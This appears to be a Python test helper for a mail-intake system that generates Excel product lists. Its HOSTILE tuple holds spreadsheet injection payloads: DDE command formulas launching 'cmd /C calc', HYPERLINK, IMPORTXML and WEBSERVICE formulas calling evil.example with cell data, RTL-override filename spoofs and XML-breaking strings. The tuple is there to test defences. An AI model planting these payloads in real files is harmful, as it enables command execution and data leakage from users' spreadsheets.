"""A round as the committee meets it: one entry that came by mail, and as many like it as a test wants."""

import io
import re
import zipfile
from collections.abc import Mapping
from datetime import datetime, timedelta
from typing import Any

from mailbot.agenda import Profile, book
from rules.model import Answer, Case
from rules.record import replace
from rules.rounds import round_named
from store import cases
from tests.e2e.town import MONDAY
from tests.looking import looked_at
from tests.mailbot.intake.counter import Counter

ROUND = "2026-11"
NOW = datetime.fromisoformat("2026-11-24T10:00:00+09:00")

HOSTILE = (
    '=HYPERLINK("http://evil.example/","クリック")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    '=WEBSERVICE("http://evil.example/")',
    "{=SUM(A1:A9)}",
    "＝1＋1",
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "'=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "0012",
    "1/2",
    "2026-11-20",
    "_x003D_1+1",
    "_x202E_txt.exe",
    "\u202etxt.exe\u202c",
    "\u2066隠\u2069す\u200f",
    "梅\x00\x01\x07\x1b[31m干し",
    "</t></is></c><c><f>1+1</f></c>",
    "&#x3D;1+1 &lt;b&gt;",
    "長" * 40_000,
)
"""What a sender may call a product in the hope that some program takes it for more than a name."""


def like(counter: Counter, **changes: Any) -> Case:
    """One more accepted product, as the first but for these; `fields` are answers, dots as '__'."""
    with counter.office.store.transaction() as db:
        first = cases.every(db).__next__()
        fields: Mapping[str, str] = changes.pop("fields", {})
        answers = {key.replace("__", "."): Answer(value=value, text=value) for key, value in fields.items()}
        entry = replace(first.entry, fields={**first.entry.fields, **answers}, pictures=0)
        number = cases.new_number(db, "R8")
        fresh = replace(first, number=number, entry=entry, photos=(), mails=(), version=0)
        return cases.put(db, replace(fresh, **changes))


HOSTILE_FIELDS = {"product": "F", "category": "G", "net": "H", "tax_rate": "K", "shelf_life": "M", "pl": "R"}
"""Answers that stand in the list word for word, and their columns."""


def hostile(counter: Counter) -> list[Case]:
    """Behind the product that came by mail, one for every six of the hostile texts."""
    counter.bring()
    size = len(HOSTILE_FIELDS)
    found = []
    for first in range(0, len(HOSTILE), size):
        texts = dict(zip(HOSTILE_FIELDS, HOSTILE[first : first + size], strict=True))
        found.append(like(counter, product=texts.pop("product"), fields={**texts, "pr": HOSTILE[first]}))
    return found


def hostile_cells() -> dict[str, str]:
    """Where each of them stands in the list: below its title, its head, a group and the first product."""
    columns = list(HOSTILE_FIELDS.values())
    return {f"{columns[n % len(columns)]}{6 + n // len(columns)}": text for n, text in enumerate(HOSTILE)}


def made(counter: Counter, profile: Profile = Profile.FULL, now: datetime = NOW) -> bytes:
    office = counter.office
    return book(office, office.store.snapshot(), round_named(ROUND, office.calendar), profile, now)


def opened(data: bytes) -> Any:
    return looked_at(data)


def table(sheet: Any) -> list[dict[str, Any]]:
    """The products of a 一覧表 by the heads of its columns, line breaks left out."""
    rows = sheet.iter_rows(values_only=True)
    head: tuple[str, ...] = ()
    found = []
    for row in rows:
        words = tuple(str(each or "").replace("\n", "") for each in row)
        if "整理番号" in words:
            head = words
        elif head and str(row[1] or "").startswith("R8-"):
            found.append(dict(zip(head, row, strict=True)))
    return found


def filled_in(data: bytes, cells: Mapping[str, str]) -> bytes:
    """The list with these words written into its empty cells, as a program does that keeps all the rest."""
    file, listed = io.BytesIO(), "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(data)) as parts, zipfile.ZipFile(file, "w") as package:
        for name in set(parts.namelist()) - {listed}:
            package.writestr(name, parts.read(name))
        xml = parts.read(listed).decode()
        for at, text in cells.items():
            said = f' t="inlineStr"><is><t>{text}</t></is></c>'
            xml, count = re.subn(rf'(<c r="{at}" s="\d+")(?: t="n")? ?/>', rf"\g<1>{said}", xml)
            assert count == 1, at
        package.writestr(listed, xml)
    return file.getvalue()


def words(data: bytes) -> str:
    """Every part of the file as text: nothing that is in it can be missed."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        return "\n".join(
            parts.read(name).decode("utf-8", "replace") for name in parts.namelist() if "media" not in name
        )


LATER = MONDAY + timedelta(days=1)
